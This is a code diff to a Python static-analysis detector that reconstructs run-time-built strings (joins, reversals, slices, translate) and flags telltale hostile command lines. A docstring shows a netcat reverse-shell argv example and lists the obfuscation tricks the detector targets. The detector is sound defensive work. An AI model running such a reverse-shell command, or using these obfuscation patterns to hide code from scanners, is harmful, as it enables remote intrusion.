@@ -17,6 +17,7 @@ from typing import Iterator
 import libcst as cst
 
 from ..lists import matcher
+from ..fold import Evaluation
 from ..resolve import Const, Resolver, Scope
 from . import Hit, PythonContext, python_detector
 from .paths import literal_texts
@@ -42,8 +43,9 @@ def telltale_literals(ctx: PythonContext) -> Iterator[Hit]:
         if rule is not None:
             seen.add(text)
             yield Hit(rule, ctx.path, node=node, details={"name": text[:120]})
+    evaluate = Evaluation.of(ctx.resolver)
     for node, scope in _built(ctx.resolver):
-        for text in _texts(ctx.resolver, node, scope):
+        for text in _texts(ctx.resolver, evaluate, node, scope):
             if len(text) > 2000 or any(s in text for s in seen):
                 continue
             rule = _telltale(text)
@@ -77,8 +79,10 @@ def _telltale(text: str) -> str | None:
     return next((rule for rule, telltales in _TELLTALES if telltales.match(text) is not None), None)
 
 
-def _texts(r: Resolver, node: cst.BaseExpression, scope: Scope) -> Iterator[str]:
-    """What a built expression may evaluate to; a list or tuple of words is read as the command line it spells
+def _texts(r: Resolver, evaluate: Evaluation, node: cst.BaseExpression, scope: Scope) -> Iterator[str]:
+    """What a built expression may evaluate to: the values the resolver folds it to, and what Python computes
+    from its literals (pieces put in another order: `"".join(P[i] for i in ORDER)`, `reversed(P)`, `L[::-1]`,
+    a dict read by sorted keys, `str.translate`); a list or tuple of words is read as the command line it spells
     (`["nc", host, "4444", "-e", "/bin/sh"]`, joined or handed to a program as it is), `?` for a word not known."""
     if isinstance(node, (cst.List, cst.Tuple)):
         words, size = [], 0
@@ -88,17 +92,19 @@ def _texts(r: Resolver, node: cst.BaseExpression, scope: Scope) -> Iterator[str]
             size += len(words[-1]) + 1
         yield " ".join(words)
         return
-    for value in r.values(node, scope):
-        text = value.value if isinstance(value, Const) else None
+    computed = evaluate(node, scope)
+    if isinstance(computed, (list, tuple)) and all(isinstance(w, str) for w in computed):
+        computed = " ".join(computed)  # an argv list put in order (`Popen(W[::-1])`)
+    for text in (*(v.value for v in r.values(node, scope) if isinstance(v, Const)), computed):
         if isinstance(text, bytes):
             text = text.decode("utf-8", "replace")
         if isinstance(text, str):
             yield text
 
 
-# What builds a string at run time (a literal itself is read above, a name where it is bound), and the lists of
-# words a command line is kept in; a call handed to a call is among the job's calls itself
-_ARGUMENTS = (cst.BinaryOperation, cst.FormattedString, cst.List, cst.Tuple)
+# What builds a string at run time (a literal itself is read above, a name where it is bound), the lists of
+# words a command line is kept in, and items or slices of displays; a call handed to a call is among the job's calls
+_ARGUMENTS = (cst.BinaryOperation, cst.FormattedString, cst.List, cst.Tuple, cst.Subscript)
 _BUILDS = (*_ARGUMENTS, cst.Call)
 
 
